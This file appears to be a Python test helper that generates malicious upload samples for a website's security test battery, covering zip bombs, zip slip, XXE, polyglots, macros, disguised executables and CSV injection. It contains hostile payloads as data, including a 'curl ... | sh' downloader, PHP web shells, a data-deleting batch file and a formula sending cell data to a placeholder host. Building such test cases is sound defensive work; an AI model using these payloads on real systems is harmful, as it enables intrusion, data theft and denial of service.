# ruff: noqa: E501 - a table of cases, one a line
"""Malicious uploads for the security battery, each built in code (no binary blob in the
repository) and written to a file, streamed where it is large (archive bombs), so that building
it costs no memory either.

``SAMPLES`` names every case: ``build(name, directory) -> (path, upload name)``. Nothing here is
used by the running site; the EICAR string comes from ``testing.eicar`` (assembled from two
halves).
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from . import testing as make

MIB = 1024 * 1024
# A limit the battery sets (UPLOAD_MAX_BYTES) so that "limit + 1 byte" stays small; the bombs
# below unpack to far more than ten times it.
TEST_LIMIT = 2 * MIB

_WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _zip_file(path: Path, entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in entries:
            archive.writestr(info, data)


def _docx_entries(document: bytes = b"<w:document><w:body/></w:document>") -> list:
    return [
        ("[Content_Types].xml", make._content_types(b"/word/document.xml", _WORD_MAIN)),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", document),
    ]


def _docx_with(extra: list, document: bytes | None = None) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        entries = _docx_entries(document) if document is not None else _docx_entries()
        _zip_file(path, entries + extra)

    return build


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return build


# --- EICAR ------------------------------------------------------------------------------------


def _eicar_zip() -> bytes:
    return make.zip_bytes({"eicar.com": make.eicar()})


def _eicar_zip_in_zip() -> bytes:
    return make.zip_bytes({"inner.zip": _eicar_zip()})


def _eicar_in_pdf() -> bytes:
    return make.pdf_bytes(content=b"BT (" + make.eicar() + b") Tj ET")


# --- archive bombs ------------------------------------------------------------------------------


def _deflated_zeros_entry(archive_path: Path, name: str, size: int, prefix: list | None = None) -> None:
    """A ZIP whose entry ``name`` is ``size`` zero bytes, deflated in a stream (never held)."""
    with zipfile.ZipFile(archive_path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in prefix or []:
            archive.writestr(entry, data)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=size > 0xFFFFFFFF) as out:
            block = bytes(MIB)
            left = size
            while left:
                out.write(block[: min(left, MIB)])
                left -= min(left, MIB)


def _flat_bomb(size: int) -> Callable[[Path], None]:
    """A DOCX whose one extra part unpacks to ``size`` bytes of zeros (ratio about 1000). The
    part's deflate stream is one MiB of zeros compressed once (a full flush makes each MiB's
    bytes the same) and written ``size / MiB`` times: built in well under a second."""

    def build(path: Path) -> None:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
        final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # an empty last block
        count = size // MIB
        crc = 0
        zeros = bytes(MIB)
        for _ in range(count):
            crc = zlib.crc32(zeros, crc)
        buffer = io.BytesIO()
        _zip_file_to(buffer, _docx_entries())
        head = buffer.getvalue()
        source = zipfile.ZipFile(io.BytesIO(head))
        infos = source.infolist()
        cd_offset = head.rfind(b"PK\x05\x06")
        central_start = struct.unpack("<I", head[cd_offset + 16 : cd_offset + 20])[0]
        name = b"word/media/image1.bin"
        compressed = len(block) * count + len(final)
        with path.open("wb") as out:
            out.write(head[:central_start])  # the local entries of the document
            offset = out.tell()
            out.write(
                struct.pack(
                    "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, compressed, count * MIB, len(name), 0
                )
            )
            out.write(name)
            for _ in range(count):
                out.write(block)
            out.write(final)
            start = out.tell()
            central = head[central_start:cd_offset] + struct.pack(
                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, compressed, count * MIB, len(name),
                0, 0, 0, 0, 0, offset,
            ) + name  # fmt: skip
            entries = len(infos) + 1
            out.write(central)
            out.write(
                struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(central), start, 0)
            )

    return build


def _ratio_bomb_under_the_total(path: Path) -> None:
    """One part of 8 MiB of zeros: under the unpacked total, over the compression ratio."""
    _deflated_zeros_entry(path, "word/media/image1.bin", 8 * MIB, _docx_entries())


def _many_parts(path: Path) -> None:
    _zip_file(path, _docx_entries() + [(f"word/media/p{i}.xml", b"") for i in range(6000)])


def _nested_bomb(path: Path) -> None:
    """A DOCX embedding a ZIP of ZIPs (42.zip in miniature): each level small, the innermost
    unpacking to far more than the document itself."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", bytes(16 * MIB))
    level = inner.getvalue()
    for depth in range(3):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(8):
                archive.writestr(f"level{depth}-{copy}.zip", level)
        level = outer.getvalue()
    _zip_file(path, _docx_entries() + [("word/embeddings/package.zip", level)])


def _nested_docx_in_docx(path: Path) -> None:
    """A DOCX embedding a DOCX that embeds a bomb: the inner document is itself a ZIP."""
    inner = path.with_suffix(".inner")
    _deflated_zeros_entry(inner, "word/media/image1.bin", 64 * MIB, _docx_entries())
    _zip_file(path, _docx_entries() + [("word/embeddings/Microsoft_Word_Document.docx", inner.read_bytes())])
    inner.unlink()


def _overlapping_bomb(path: Path) -> None:
    """Fifield's non-recursive bomb in miniature: central directory entries that all point at one
    compressed kernel (declared sizes honest, so the total gives it away)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = kernel.compress(bytes(4 * MIB)) + kernel.flush()
    crc = zlib.crc32(bytes(4 * MIB))
    names = [b"[Content_Types].xml"] + [b"word/part%d.xml" % i for i in range(400)]
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(raw), 4 * MIB, len(names[0]), 0
    )
    body = local + names[0] + raw
    central = b""
    for name in names:
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(raw), 4 * MIB, len(name),
            0, 0, 0, 0, 0, 0,
        ) + name  # fmt: skip
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central), len(body), 0)
    path.write_bytes(body + central + end)


def _lying_sizes(path: Path) -> None:
    """A DOCX whose content types part declares 100 bytes and inflates to 64 MiB: readers that
    trust the data, not the directory, unpack all of it."""
    buffer = io.BytesIO()
    _zip_file_to(buffer, _docx_entries())
    data = bytearray(buffer.getvalue())
    big = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = big.compress(b"<Types>" + bytes(64 * MIB)) + big.flush()
    path.write_bytes(_replace_first_entry(bytes(data), payload, declared=100))


def _zip_file_to(buffer: io.BytesIO, entries: list) -> None:
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in entries:
            archive.writestr(info, data)


def _replace_first_entry(data: bytes, payload: bytes, *, declared: int) -> bytes:
    """Rebuild a ZIP with its first entry's compressed data replaced by ``payload`` and its sizes
    declared as ``declared`` (the CRC kept): a lie a careless reader believes."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    central = b""
    for index, info in enumerate(source.infolist()):
        raw = payload if index == 0 else _raw(data, info)
        size = declared if index == 0 else info.file_size
        name = info.filename.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, info.CRC, len(raw), size, len(name), 0
            )
        )
        out.write(name + raw)
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, info.CRC, len(raw), size, len(name),
            0, 0, 0, 0, 0, offset,
        ) + name  # fmt: skip
    start = out.tell()
    count = len(source.infolist())
    out.write(central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), start, 0))
    return out.getvalue()


def _raw(data: bytes, info: zipfile.ZipInfo) -> bytes:
    header = data[info.header_offset : info.header_offset + 30]
    name_length, extra_length = struct.unpack("<HH", header[26:30])
    start = info.header_offset + 30 + name_length + extra_length
    return data[start : start + info.compress_size]


# --- zip slip, symlinks --------------------------------------------------------------------------


def _symlink_entry(name: str, target: bytes) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target


# --- images ---------------------------------------------------------------------------------------


def _png_header_only(width: int, height: int, *, real: bytes | None = None) -> bytes:
    """A PNG whose IHDR claims ``width`` x ``height`` with a tiny IDAT: the pixel flood."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(bytes(width + 1) if width < 10_000 else b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _png_with_text(text: bytes) -> bytes:
    png = make.png_bytes()
    chunk = b"tEXt" + b"Comment\x00" + text
    block = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return png[:33] + block + png[33:]  # after the signature and IHDR


def _jpeg_flood() -> bytes:
    """A JPEG whose start-of-frame claims 65,535 x 65,535 pixels."""
    jpeg = bytearray(make.jpeg_bytes())
    marker = jpeg.find(b"\xff\xc0")
    jpeg[marker + 5 : marker + 9] = struct.pack(">HH", 65535, 65535)
    return bytes(jpeg)


# --- the cases -------------------------------------------------------------------------------------

_PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(48)
    + b"This program cannot be run in DOS mode."
)
_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<w:document><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i + 1, (b"&lol%d;" % i if i else b"&lol;") * 10) for i in range(9))
    + b"]><w:document><w:body><w:t>&lol9;</w:t></w:body></w:document>"
)
_XXE_PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd">%remote;]>'
    b"<w:document/>"
)
_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)


def _ole_with_vba() -> bytes:
    """An OLE compound file with the storages of a Word document with VBA macros."""
    data = bytearray(make.encrypted_ooxml_bytes())
    directory = 512
    for index, name in enumerate(("WordDocument", "Macros", "VBA", "_VBA_PROJECT")):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        entry[64:66] = len(encoded).to_bytes(2, "little")
        entry[66] = 2 if name in ("WordDocument", "_VBA_PROJECT") else 1
        start = directory + 128 * (index + 1)
        data[start : start + 128] = entry
    return bytes(data)


def _pdf_header_first(path: Path) -> None:
    """A DOCX whose first part, stored uncompressed, begins with a PDF header: a PDF reader
    finds it in the first KiB."""
    info = zipfile.ZipInfo("aaa.xml")  # stored: ZipInfo's default
    _zip_file(path, [(info, b"%PDF-1.7\n1 0 obj << >> endobj\n"), *_docx_entries()])


def _csv(text: str) -> bytes:
    return text.encode()


CASES: dict[str, tuple[Callable[[Path], None], str]] = {
    # malware (the local EICAR signature of scripts/clamav.sh)
    "eicar-plain-txt": (_bytes(make.eicar), "notes.txt"),
    "eicar-plain-com": (_bytes(make.eicar), "eicar.com"),
    "eicar-zipped": (_bytes(_eicar_zip), "eicar.zip"),
    "eicar-zipped-named-docx": (_bytes(_eicar_zip), "report.docx"),
    "eicar-zip-in-zip": (_bytes(_eicar_zip_in_zip), "archive.zip"),
    "eicar-in-docx": (_docx_with([], document=b"<w:document>" + make.eicar() + b"</w:document>"), "r.docx"),
    "eicar-in-pdf": (_bytes(_eicar_in_pdf), "r.pdf"),
    "eicar-in-csv": (_bytes(lambda: b"a,b\n1," + make.eicar() + b"\n"), "s.csv"),
    # archive bombs
    "zip-bomb-flat-1gib": (_flat_bomb(1024 * MIB), "bomb.docx"),
    "zip-bomb-flat-over-unpacked-limit": (_flat_bomb(24 * MIB), "bomb.docx"),
    "zip-bomb-ratio": (_ratio_bomb_under_the_total, "bomb.docx"),
    "zip-bomb-nested-zips": (_nested_bomb, "nested.docx"),
    "zip-bomb-nested-docx": (_nested_docx_in_docx, "nested.docx"),
    "zip-bomb-overlapping-entries": (_overlapping_bomb, "overlap.docx"),
    "zip-bomb-lying-sizes": (_lying_sizes, "liar.docx"),
    "zip-too-many-parts": (_many_parts, "parts.docx"),
    # zip slip
    "zip-slip-dotdot": (_docx_with([("../../../../tmp/evil.xml", b"<x/>")]), "slip.docx"),
    "zip-slip-nested-dotdot": (_docx_with([("word/../../evil.xml", b"<x/>")]), "slip.docx"),
    "zip-slip-absolute": (_docx_with([("/etc/cron.d/evil", b"* * * * * root id\n")]), "slip.docx"),
    "zip-slip-backslash": (_docx_with([("..\\..\\Windows\\evil.xml", b"<x/>")]), "slip.docx"),
    "zip-slip-drive-letter": (_docx_with([("C:/Windows/evil.xml", b"<x/>")]), "slip.docx"),
    "zip-slip-odt": (
        _bytes(lambda: make.odt_bytes(extra={"../../evil.xml": b"<x/>"})),
        "slip.odt",
    ),
    # symlinks in archives
    "zip-symlink-to-passwd": (_docx_with([_symlink_entry("word/media/link.xml", b"/etc/passwd")]), "l.docx"),
    "zip-symlink-to-parent": (_docx_with([_symlink_entry("word/theme", b"../../../../")]), "l.docx"),
    "zip-symlink-plain-zip": (
        lambda path: _zip_file(path, [_symlink_entry("passwd", b"/etc/passwd")]),
        "links.zip",
    ),
    # polyglots
    "polyglot-pdf-zip": (_bytes(lambda: make.pdf_bytes() + make.docx_bytes()), "r.pdf"),
    "polyglot-zip-pdf": (_bytes(lambda: make.docx_bytes() + make.pdf_bytes()), "r.docx"),
    "polyglot-pdf-header-in-docx": (_pdf_header_first, "r.docx"),
    "polyglot-gif-js": (
        _bytes(b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//;"),
        "i.gif",
    ),
    "polyglot-gif-js-named-png": (_bytes(b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1);//;"), "i.png"),
    "polyglot-png-zip": (_bytes(lambda: make.png_bytes() + make.docx_bytes()), "i.png"),
    "polyglot-png-html-text-chunk": (_bytes(lambda: _png_with_text(b"<script>alert(1)</script>")), "i.png"),
    "polyglot-jpeg-php-trailer": (
        _bytes(lambda: make.jpeg_bytes() + b"<?php system($_GET['c']); ?>"),
        "i.jpg",
    ),
    "polyglot-html-in-pdf": (
        _bytes(lambda: make.pdf_bytes(content=b"<html><script>alert(1)</script>")),
        "r.pdf",
    ),
    # active content: SVG, HTML, PDF JavaScript
    "svg-with-script": (_bytes(_SVG), "map.svg"),
    "svg-with-script-named-png": (_bytes(_SVG), "map.png"),
    "svg-with-script-named-txt": (_bytes(b'<?xml version="1.0"?>' + _SVG), "map.txt"),
    "html-named-pdf": (_bytes(b"<!DOCTYPE html><html><script>alert(1)</script></html>"), "r.pdf"),
    "pdf-with-javascript": (
        _bytes(lambda: make.pdf_bytes(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")),
        "r.pdf",
    ),
    "pdf-with-launch-action": (
        _bytes(lambda: make.pdf_bytes(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")),
        "r.pdf",
    ),
    "pdf-with-embedded-file": (
        _bytes(lambda: make.pdf_bytes(catalog_extra=b"/Names << /EmbeddedFiles << /Names [] >> >> ")),
        "r.pdf",
    ),
    # XML external entities
    "docx-xxe-file": (_docx_with([], document=_XXE), "x.docx"),
    "docx-xxe-parameter-entity": (_docx_with([], document=_XXE_PARAMETER), "x.docx"),
    "docx-billion-laughs": (_docx_with([], document=_LAUGHS), "x.docx"),
    "docx-xxe-in-relationships": (
        _docx_with(
            [
                (
                    "word/_rels/document.xml.rels",
                    b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/shadow">]><r>&e;</r>',
                )
            ]
        ),
        "x.docx",
    ),
    "xlsx-xxe-shared-strings": (
        _bytes(lambda: make.xlsx_bytes(extra={"xl/sharedStrings.xml": _XXE})),
        "x.xlsx",
    ),
    "odt-xxe-content": (_bytes(lambda: make.odt_bytes(content=_XXE)), "x.odt"),
    "xml-xxe-named-txt": (_bytes(_XXE), "x.txt"),
    # macros
    "docm-macro-enabled": (
        _bytes(lambda: make.docx_bytes(main_type=b"application/vnd.ms-word.document.macroEnabled.main+xml")),
        "m.docx",
    ),
    "docx-with-vba-project": (_docx_with([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0VBA")]), "m.docx"),
    "xlsm-macro-enabled": (
        _bytes(
            lambda: make.xlsx_bytes(
                extra={
                    "[Content_Types].xml": make._content_types(
                        b"/xl/workbook.xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                    ),
                    "xl/vbaProject.bin": b"VBA",
                }
            )
        ),
        "m.xlsx",
    ),
    "xlsx-xlm-macro-sheet": (
        _bytes(lambda: make.xlsx_bytes(extra={"xl/macrosheets/sheet1.xml": b"<x/>"})),
        "m.xlsx",
    ),
    "docx-remote-template": (
        _docx_with(
            [
                (
                    "word/_rels/settings.xml.rels",
                    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
                    b'2006/relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>'
                    b"</Relationships>",
                )
            ]
        ),
        "t.docx",
    ),
    "ole-doc-with-vba": (_bytes(_ole_with_vba), "m.doc"),
    "ole-doc-with-vba-named-docx": (_bytes(_ole_with_vba), "m.docx"),
    "odt-basic-macro": (
        _bytes(lambda: make.odt_bytes(extra={"Basic/Standard/Module1.xml": b"<x/>"})),
        "m.odt",
    ),
    "odt-script-event": (
        _bytes(lambda: make.odt_bytes(content=b"<x script:event-listener='vnd.sun.star.script:evil'/>")),
        "m.odt",
    ),
    # wrong type for the name
    "exe-named-pdf": (_bytes(_PE), "invoice.pdf"),
    "exe-named-docx": (_bytes(_PE), "invoice.docx"),
    "elf-named-png": (_bytes(b"\x7fELF\x02\x01\x01" + bytes(57)), "photo.png"),
    "shell-script-named-txt": (_bytes(b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"), "notes.txt"),
    "batch-file-named-csv": (_bytes(b"@echo off\r\npowershell -enc AAAA\r\ndel /q C:\\*\r\n"), "data.csv"),
    "java-class-named-jpg": (_bytes(b"\xca\xfe\xba\xbe\x00\x00\x004" + bytes(32)), "photo.jpg"),
    "php-named-jpg": (_bytes(b"<?php echo shell_exec($_GET['c']); ?>"), "photo.jpg"),
    "exe-in-docx": (_docx_with([("word/media/setup.exe", _PE)]), "r.docx"),
    # size
    "limit-plus-one-byte": (
        _bytes(lambda: (lambda pdf: pdf + b"%" * (TEST_LIMIT + 1 - len(pdf)))(make.pdf_bytes())),
        "big.pdf",
    ),
    # decompression bombs in images
    "png-pixel-flood": (_bytes(lambda: _png_header_only(100_000, 100_000)), "flood.png"),
    "png-pixel-flood-wide": (_bytes(lambda: _png_header_only(2**31 - 1, 1)), "flood.png"),
    "png-pixel-flood-just-over": (_bytes(lambda: _png_header_only(10_001, 10_000)), "flood.png"),
    "jpeg-pixel-flood": (_bytes(_jpeg_flood), "flood.jpg"),
    # spreadsheet formulas (CSV injection)
    "csv-dde-formula": (_bytes(_csv("name,amount\n=cmd|' /C calc'!A0,1\n")), "s.csv"),
    "csv-at-formula": (_bytes(_csv("name,amount\n@SUM(1+1)*cmd|' /C calc'!A0,1\n")), "s.csv"),
    "csv-hyperlink-formula": (_bytes(_csv('a;b\n=HYPERLINK("http://192.0.2.1/?"&A1);1\n')), "s.csv"),
    # encrypted (cannot be scanned)
    "pdf-encrypted": (
        _bytes(lambda: make.pdf_bytes(trailer_extra=b"/Encrypt << /Filter /Standard >> ")),
        "r.pdf",
    ),
    "ooxml-encrypted": (_bytes(make.encrypted_ooxml_bytes), "r.docx"),
}


def build(name: str, directory: Path) -> tuple[Path, str]:
    """Write case ``name`` into ``directory``: (its path, the name it is uploaded under)."""
    builder, upload_name = CASES[name]
    path = directory / f"{name}.sample"
    builder(path)
    return path, upload_name
